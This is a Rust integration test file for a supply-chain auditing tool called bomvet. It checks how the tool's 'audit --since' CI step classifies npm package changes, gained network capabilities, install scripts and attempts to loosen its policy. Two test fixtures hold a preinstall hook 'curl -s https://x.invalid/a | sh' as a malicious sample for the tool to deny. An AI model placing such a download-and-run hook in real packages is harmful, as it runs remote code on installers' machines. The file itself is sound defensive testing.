//! The CI step: `bomvet audit --since REV` on a small history.

#[path = "support/project.rs"]
mod project;

use std::path::Path;
use std::process::Command;

use project::{Packed, Project, package, text};
use serde_json::Value;

/// git, for making the history only: bomvet itself never runs it.
fn git(root: &Path, args: &[&str]) {
    #[expect(clippy::disallowed_methods, reason = "makes the history under test")]
    let mut command = Command::new("git");
    let output = command
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(root)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(output.status.success(), "git {args:?}: {}", text(&output.stderr));
}

fn commit(root: &Path) {
    git(root, &["add", "-A"]);
    git(root, &["commit", "-q", "-m", "c"]);
}

fn manifest(name: &str, version: &str, more: &str) -> String {
    format!("{{\"name\": \"{name}\", \"version\": \"{version}\", \"license\": \"MIT\"{more}}}")
}

fn lib(name: &str, version: &str, code: &str) -> Packed {
    let manifest = manifest(name, version, ", \"main\": \"index.js\"");
    Packed::new(name, version, &[("package.json", &manifest), ("index.js", code)])
}

const PURE: &str = "module.exports = (a, b) => a + b;\n";
const NET: &str = "const https = require('https');\nmodule.exports = (cb) => https.get('https://api.example.invalid/v1', cb);\n";

struct Step {
    status: Option<i32>,
    document: Value,
}

fn since(project: &Project) -> Step {
    let output = project.run(&["--since", "HEAD", "--format", "json"]);
    let document = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", text(&output.stderr)));
    Step { status: output.status.code(), document }
}

fn start(packages: &[Packed]) -> Project {
    let mut project = Project::new();
    project.write("index.js", "module.exports = 1;\n");
    project.npm(packages);
    git(&project.root(), &["init", "-q"]);
    commit(&project.root());
    project
}

#[test]
fn added_removed_upgraded_and_downgraded_packages_are_told_apart() {
    let mut project = start(&[
        lib("stays-here", "1.0.0", PURE),
        lib("goes-up", "1.9.0", PURE),
        lib("goes-down", "2.0.0", PURE),
        lib("goes-away", "1.0.0", PURE),
    ]);
    project.npm(&[
        lib("stays-here", "1.0.0", PURE),
        lib("goes-up", "1.10.0", PURE),
        lib("goes-down", "1.0.0", PURE),
        lib("is-fresh", "1.0.0", PURE),
    ]);
    let Step { status, document } = since(&project);
    let change = |name: &str| package(&document, name)["change"].clone();
    assert_eq!(change("stays-here")["kind"], "unchanged");
    assert_eq!(change("goes-up"), serde_json::json!({"kind": "upgraded", "from": "1.9.0"}));
    assert_eq!(change("goes-down"), serde_json::json!({"kind": "downgraded", "from": "2.0.0"}));
    assert_eq!(change("is-fresh")["kind"], "added");
    assert_eq!(document["removed"], serde_json::json!(["pkg:npm/goes-away@1.0.0"]));
    assert_eq!(status, Some(0), "{document:#}");
}

#[test]
fn a_resourced_package_is_told_by_its_digest() {
    let mut project = start(&[lib("same-name", "1.0.0", PURE)]);
    project.npm(&[lib("same-name", "1.0.0", "module.exports = (a, b) => a - b;\n")]);
    let Step { document, .. } = since(&project);
    assert_eq!(package(&document, "same-name")["change"]["kind"], "resourced");
}

#[test]
fn a_gained_capability_is_shown_and_is_no_reason_to_deny_by_itself() {
    let mut project = start(&[lib("grows-net", "1.0.0", PURE)]);
    project.npm(&[lib("grows-net", "1.1.0", NET)]);
    let Step { status, document } = since(&project);
    let grown = package(&document, "grows-net");
    assert_eq!(grown["gained"], serde_json::json!(["net"]));
    let rules: Vec<_> = grown["findings"].as_array().unwrap().iter().map(|f| f["rule"].clone()).collect();
    assert!(rules.contains(&"identity/gained-capability".into()), "{rules:?}");
    assert_eq!((grown["verdict"].as_str(), status), (Some("approve"), Some(0)));
}

#[test]
fn the_policy_can_make_a_gained_capability_a_reason_to_deny() {
    let mut project = start(&[lib("grows-net", "1.0.0", PURE)]);
    project.write("bomvet.toml", "[profiles.ci]\ndeny-gained = [\"net\"]\n");
    commit(&project.root());
    project.npm(&[lib("grows-net", "1.1.0", NET)]);
    let Step { status, document } = since(&project);
    assert_eq!(status, Some(1));
    assert_eq!(package(&document, "grows-net")["reasons"][0]["rule"], "policy/deny-gained");
}

#[test]
fn an_added_install_script_is_denied() {
    let mut project = start(&[lib("gets-script", "1.0.0", PURE)]);
    let scripted = manifest("gets-script", "1.0.1", ", \"scripts\": {\"postinstall\": \"node setup.js\"}");
    project.npm(&[Packed::new(
        "gets-script",
        "1.0.1",
        &[("package.json", &scripted), ("setup.js", "console.log('thank you');\n"), ("index.js", PURE)],
    )]);
    let Step { status, document } = since(&project);
    let denied = package(&document, "gets-script");
    assert_eq!((status, denied["verdict"].as_str()), (Some(1), Some("deny")));
    assert_eq!(denied["reasons"][0]["rule"], "identity/gained-install-script");
}

#[test]
fn the_projects_own_changed_code_is_audited() {
    let project = start(&[lib("stays-here", "1.0.0", PURE)]);
    project.write("index.js", NET);
    let Step { status, document } = since(&project);
    let own = package(&document, "app");
    assert_eq!(own["change"], serde_json::json!({"kind": "edited", "files": ["index.js"]}));
    assert_eq!(own["gained"], serde_json::json!(["net"]));
    assert_eq!(status, Some(0));
}

#[test]
fn what_was_denied_before_does_not_stop_a_change_that_leaves_it_alone() {
    let scripted = manifest(
        "old-evil",
        "1.0.0",
        ", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}",
    );
    let evil = || Packed::new("old-evil", "1.0.0", &[("package.json", &scripted)]);
    let mut project = start(&[evil()]);
    project.npm(&[evil(), lib("is-fresh", "1.0.0", PURE)]);
    let Step { status, document } = since(&project);
    assert_eq!(package(&document, "old-evil")["verdict"], "deny");
    assert_eq!(status, Some(0));
    assert_eq!(project.run(&[]).status.code(), Some(1), "a whole audit still denies it");
}

#[test]
fn a_change_cannot_loosen_the_policy_that_it_is_judged_by() {
    let mut project = start(&[lib("stays-here", "1.0.0", PURE)]);
    let scripted =
        manifest("evil", "1.0.0", ", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}");
    project.npm(&[
        lib("stays-here", "1.0.0", PURE),
        Packed::new("evil", "1.0.0", &[("package.json", &scripted)]),
    ]);
    project.write(
        "bomvet.toml",
        "[profiles.ci]\ndeny-severity = \"critical\"\ndeny-confidence = \"high\"\ndeny-gaps = []\n",
    );
    let Step { status, document } = since(&project);
    assert_eq!(status, Some(1));
    let notes = document["notes"].to_string();
    assert!(notes.contains("bomvet.toml differs from HEAD"), "{notes}");
}

#[test]
fn an_unknown_revision_says_what_to_do() {
    let project = start(&[lib("stays-here", "1.0.0", PURE)]);
    let output = project.run(&["--since", "no-such-branch"]);
    assert_eq!(output.status.code(), Some(2));
    let message = text(&output.stderr);
    assert!(
        message.contains("cannot read revision `no-such-branch`") && message.contains("fetch-depth: 0"),
        "{message}"
    );
}

#[test]
fn an_earlier_bom_serves_as_the_base() {
    let mut project = start(&[lib("goes-up", "1.0.0", PURE), lib("goes-away", "1.0.0", PURE)]);
    project.run(&[]);
    let base = project.root().join("../base.json");
    std::fs::copy(project.out().join("bom.cdx.json"), &base).unwrap();
    project.npm(&[lib("goes-up", "1.1.0", NET)]);
    let document = project.audit(&["--base", base.to_str().unwrap()]);
    let up = package(&document, "goes-up");
    assert_eq!(up["change"], serde_json::json!({"kind": "upgraded", "from": "1.0.0"}));
    assert_eq!(up["gained"], serde_json::json!(["net"]));
    assert_eq!(document["removed"], serde_json::json!(["pkg:npm/goes-away@1.0.0"]));
}
